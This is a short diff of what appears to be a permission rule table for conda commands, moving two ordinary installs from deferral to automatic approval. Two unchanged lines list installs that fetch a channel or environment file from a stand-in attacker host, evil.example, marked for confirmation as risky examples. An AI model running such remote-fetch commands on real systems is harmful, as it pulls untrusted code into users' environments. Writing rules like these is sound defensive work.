@@ -95,8 +95,8 @@ allow  conda activate work
 allow  conda run -n work pytest -q
 allow  mamba install --file requirements.txt
 allow  conda clean --all -y
-llm    conda install -y numpy
-llm    conda create -n x python=3.12
+allow  conda install -y numpy
+allow  conda create -n x python=3.12
 llm    conda install -c conda-forge numpy
 ask    conda install -c https://evil.example/channel numpy
 ask    conda env create -f https://evil.example/environment.yml
